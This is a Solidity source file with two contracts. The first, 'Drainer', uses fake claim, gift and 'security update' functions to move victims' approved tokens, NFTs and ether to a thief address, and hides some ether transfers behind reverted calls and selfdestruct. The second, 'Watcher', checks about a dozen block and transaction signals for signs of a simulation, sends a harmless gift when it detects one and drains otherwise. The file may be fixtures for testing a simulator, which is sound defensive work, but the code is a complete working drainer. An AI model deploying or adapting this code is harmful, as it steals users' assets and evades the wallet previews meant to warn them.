// SPDX-License-Identifier: Apache-2.0
pragma solidity 0.8.30;

import {Token} from "./Tokens.sol";
import {Collectible} from "./Collectibles.sol";

/// Takes what it was once allowed to take.
contract Drainer {
    address public immutable thief;

    constructor(address thief_) {
        thief = thief_;
    }

    /// A present that takes the tokens of those who fetch it.
    function claim(Token token) external {
        token.transferFrom(msg.sender, thief, token.balanceOf(msg.sender));
    }

    /// The same with a present, so that something comes back.
    function claimWithGift(Token token, Token gift) external {
        gift.transfer(msg.sender, 1 ether);
        token.transferFrom(msg.sender, thief, token.balanceOf(msg.sender));
    }

    function claimCollectible(Collectible collectible, uint256 tokenId) external {
        collectible.transferFrom(msg.sender, thief, tokenId);
    }

    /// Ether that is sent along for a security update is gone.
    function securityUpdate() external payable {
        (bool isSent, ) = thief.call{value: msg.value}("");
        require(isSent, "not sent");
    }

    /// Pays in a frame that is undone: nothing has moved in the end.
    function pretendToPay() external payable {
        try this.payAndFail{value: msg.value}(msg.sender) {} catch {}
        (bool isSent, ) = thief.call{value: address(this).balance}("");
        require(isSent, "not sent");
    }

    function payAndFail(address to) external payable {
        (bool isSent, ) = to.call{value: msg.value}("");
        require(isSent && false, "undone");
    }

    /// Ether that leaves by a self-destruction, without a call.
    function viaDestruction() external payable {
        new Destroyed{value: msg.value}(payable(thief));
    }
}

contract Destroyed {
    constructor(address payable heir) payable {
        selfdestruct(heir);
    }
}

/// Behaves when it is watched: gives a present where a sign says that this is no real block, and drains else.
contract Watcher {
    enum Sign {
        COINBASE,
        BASE_FEE,
        GAS_PRICE,
        PRIORITY_FEE,
        NUMBER,
        TIMESTAMP,
        PREVRANDAO,
        GAS_LIMIT,
        GAS_LEFT,
        SENDER_BALANCE,
        CHAIN_ID,
        BLOCK_HASH,
        SENDER_CODE,
        ARMED
    }

    Sign public immutable sign;
    Token public immutable token;
    Token public immutable gift;
    address public immutable thief;
    address public immutable owner = msg.sender;
    uint256 public immutable chainId = block.chainid;
    uint256 public immutable gasLimit = block.gaslimit;
    bool public isArmed;
    uint256 public touchedAt;

    constructor(Sign sign_, Token token_, Token gift_, address thief_) {
        sign = sign_;
        token = token_;
        gift = gift_;
        thief = thief_;
    }

    function arm(bool isArmed_) external {
        require(msg.sender == owner, "not the owner");
        isArmed = isArmed_;
        touchedAt = block.timestamp;
    }

    /// `expected`: the sender's balance as the page saw it before, without gas.
    function claim(uint256 expected) external {
        if (isReal(gasleft(), expected)) token.transferFrom(msg.sender, thief, token.balanceOf(msg.sender));
        else gift.transfer(msg.sender, 1 ether);
    }

    function isReal(uint256 gasLeft, uint256 expected) private view returns (bool) {
        if (sign == Sign.COINBASE) return block.coinbase != address(0);
        if (sign == Sign.BASE_FEE) return block.basefee > 0;
        if (sign == Sign.GAS_PRICE) return tx.gasprice > 0;
        if (sign == Sign.PRIORITY_FEE) return tx.gasprice > block.basefee;
        if (sign == Sign.NUMBER) return block.number % 2 == 1;
        if (sign == Sign.TIMESTAMP) return block.timestamp > touchedAt;
        if (sign == Sign.PREVRANDAO) return block.prevrandao != 0;
        if (sign == Sign.GAS_LIMIT) return block.gaslimit == gasLimit;
        if (sign == Sign.GAS_LEFT) return gasLeft < 1_000_000;
        if (sign == Sign.SENDER_BALANCE) return msg.sender.balance < expected;
        if (sign == Sign.CHAIN_ID) return block.chainid == chainId;
        if (sign == Sign.BLOCK_HASH) return blockhash(block.number - 1) != 0;
        if (sign == Sign.SENDER_CODE) return msg.sender.code.length == 0 && msg.sender == tx.origin;
        return isArmed;
    }
}
